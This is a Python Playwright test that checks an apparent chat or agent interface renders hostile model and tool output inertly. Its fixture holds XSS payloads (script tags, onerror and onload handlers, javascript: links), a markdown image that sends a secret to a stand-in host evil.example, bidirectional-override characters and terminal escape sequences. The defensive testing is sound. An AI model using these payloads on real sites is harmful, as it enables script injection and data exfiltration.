"""What a model or a tool says is shown, and nothing of it runs, is fetched or lies to the eye (CVE-2021-42574)."""

from collections.abc import Callable
from pathlib import Path
from typing import Any

from playwright.sync_api import Dialog, Page, Request, expect

from tests.browser.session_page import SessionPage
from tests.server import Server

ANSWER = """
![steal](https://evil.example/?k=secret) <img src=x onerror="alert(1)"> [click](javascript:alert(1)) [ok](https://good.example)

<script>alert(1)</script> <svg onload=alert(1)></svg>

`a\u202eb` \x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07

```html
<img src=x onerror=alert(1)>
```
"""


def test_it_shows_hostile_text_and_does_nothing_of_it(
    page: Page, server: Server, tmp_path: Path, write_script: Callable[[str, Any], str]
) -> None:
    (tmp_path / "evil.txt").write_text(ANSWER)
    script = [{"tool": "read_file", "args": {"path": "evil.txt"}}, {"text": ANSWER}]
    asked: list[str] = []
    dialogs: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((server.url, server.url.replace("http", "ws"))):
            asked.append(request.url)

    def refuse(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", note)
    page.on("dialog", refuse)
    session = SessionPage.open(page, server, tmp_path, write_script("evil", script))
    session.send("go")
    expect(session.ends).to_be_visible()
    session.call("Read evil.txt").locator("summary").click()

    prose = session.transcript.locator(".prose")
    expect(prose).to_contain_text("<script>alert(1)</script>")
    expect(prose).to_contain_text("a⟨U+202E⟩b red link")
    expect(session.transcript.locator("img, script, .prose svg:not(.icon)")).to_have_count(0)
    links = prose.locator("a").evaluate_all("links => links.map((link) => [link.textContent, link.href, link.rel])")
    safe = "noopener noreferrer nofollow"
    assert links == [["Image: steal", "https://evil.example/?k=secret", safe], ["ok", "https://good.example/", safe]]
    assert (asked, dialogs) == ([], [])
